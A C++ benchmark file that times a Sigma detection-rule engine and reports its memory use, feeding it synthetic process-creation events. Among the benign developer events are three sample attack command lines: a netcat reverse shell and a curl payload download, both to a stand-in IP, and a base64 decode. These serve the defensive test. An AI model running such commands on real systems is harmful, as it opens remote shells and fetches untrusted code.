// What the Sigma rules cost: time per event, time to compile, resident memory. Prints, judges
// nothing. Rules: our own, and those beside the checkout where there are any.
#include <benchmark/benchmark.h>
#include <malloc.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

#include "config/RuleFiles.h"
#include "rules/sigma/RuleSet.h"

namespace {

using namespace rules::sigma;

std::vector<RuleText> readRules() {
    const std::vector<std::string> folders = {AM_OWN_RULES, AM_SIGMA_RULES};
    std::vector<RuleText> texts;
    for (auto& file : config::readRuleFiles(folders, config::RuleAuthors::Anybody).files)
        texts.push_back({file.path, file.text});
    return texts;
}

long residentKiB() {
    long pages = 0;
    std::ifstream("/proc/self/statm").ignore(32, ' ') >> pages;
    return pages * (sysconf(_SC_PAGESIZE) / 1024);
}

Event execEvent(const std::string& image, const std::string& commandLine,
                const std::string& parentImage, const std::string& parentCommandLine) {
    Event event(Category::ProcessCreation);
    event.set("Image", image);
    event.set("CommandLine", commandLine);
    event.set("CurrentDirectory", "/home/alice/projects/example/build");
    event.set("User", "alice");
    event.set("LogonId", "1000");
    event.set("ProcessId", "48213");
    event.set("ParentProcessId", "48101");
    event.set("ParentImage", parentImage);
    event.set("ParentCommandLine", parentCommandLine);
    event.set("Hashes", "SHA256=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
    return event;
}

std::string compilerLine(int number) {
    std::string line = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus -quiet -I /usr/include";
    for (int i = 0; i < 24; ++i)
        line += " -I /home/alice/projects/example/part" + std::to_string(i) + "/include";
    return line + " -O2 -Wall source" + std::to_string(number) + ".cpp -o /tmp/ccAbCd12.s";
}

/// A developer's morning, and three things that rules are about.
std::vector<Event> events() {
    std::vector<Event> all;
    for (int i = 0; i < 40; ++i) {
        const std::string number = std::to_string(i);
        all.push_back(execEvent("/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", compilerLine(i),
                                "/usr/bin/x86_64-linux-gnu-g++-12", "g++ -c source" + number));
        all.push_back(execEvent("/usr/bin/git", "git -c core.pager=cat status --porcelain=v2 -z",
                                "/usr/bin/zsh", "-zsh"));
        all.push_back(execEvent("/usr/bin/bash", "bash -c test -f /etc/default/x" + number,
                                "/usr/bin/make", "make -j8 all"));
        all.push_back(execEvent("/usr/bin/sed", "sed -n s/^version: //p debian/control",
                                "/usr/bin/dash", "/bin/sh ./configure --prefix=/usr"));
        all.push_back(execEvent("/usr/bin/node", "node /home/alice/app/node_modules/.bin/esbuild",
                                "/usr/bin/node", "npm run build"));
        all.push_back(
            execEvent("/usr/bin/ls", "ls --color=auto -la /var/log", "/usr/bin/bash", "-bash"));
    }
    all.push_back(
        execEvent("/usr/bin/nc.openbsd", "nc -e /bin/sh 192.0.2.1 4444", "/usr/bin/bash", "bash"));
    all.push_back(execEvent("/usr/bin/curl", "curl -fsSL http://192.0.2.1/x.sh -o /tmp/x.sh",
                            "/usr/bin/bash", "bash"));
    all.push_back(execEvent("/usr/bin/base64", "base64 -d /tmp/x", "/usr/bin/bash", "bash"));
    return all;
}

void matchExecEvents(benchmark::State& state) {
    const auto compiled = RuleSet::compile(readRules());
    const auto all = events();
    std::vector<std::int64_t> tookNs;
    tookNs.reserve(20'000'000);
    std::size_t at = 0;
    for ([[maybe_unused]] auto _ : state) {
        const auto start = std::chrono::steady_clock::now();
        benchmark::DoNotOptimize(compiled.set.match(all[at]));
        const std::chrono::nanoseconds took = std::chrono::steady_clock::now() - start;
        if (tookNs.size() < tookNs.capacity())
            tookNs.push_back(took.count());
        at = (at + 1) % all.size();
    }
    std::ranges::sort(tookNs);
    state.counters["rules"] = static_cast<double>(compiled.set.rules().size());
    state.counters["p50_ns"] = static_cast<double>(tookNs[tookNs.size() / 2]);
    state.counters["p95_ns"] = static_cast<double>(tookNs[tookNs.size() * 95 / 100]);
    state.counters["p99_ns"] = static_cast<double>(tookNs[tookNs.size() * 99 / 100]);
}
BENCHMARK(matchExecEvents);

void compileAll(benchmark::State& state) {
    const auto texts = readRules();
    for ([[maybe_unused]] auto _ : state) {
        benchmark::DoNotOptimize(RuleSet::compile(texts));
    }
}
BENCHMARK(compileAll)->Unit(benchmark::kMillisecond);

/// Before anything else has touched the heap.
void printMemory() {
    const long before = residentKiB();
    auto compiled = RuleSet::compile(readRules());
    malloc_trim(0);
    const long loaded = residentKiB();
    const auto all = events();
    for (int round = 0; round < 200; ++round)
        for (const Event& event : all)
            benchmark::DoNotOptimize(compiled.set.match(event));
    std::printf("resident memory: +%ld KiB with %zu rules, +%ld KiB after %zu events\n",
                loaded - before, compiled.set.rules().size(), residentKiB() - before,
                all.size() * 200);
}

}  // namespace

int main(int argc, char** argv) {
    printMemory();
    benchmark::Initialize(&argc, argv);
    benchmark::RunSpecifiedBenchmarks();
}
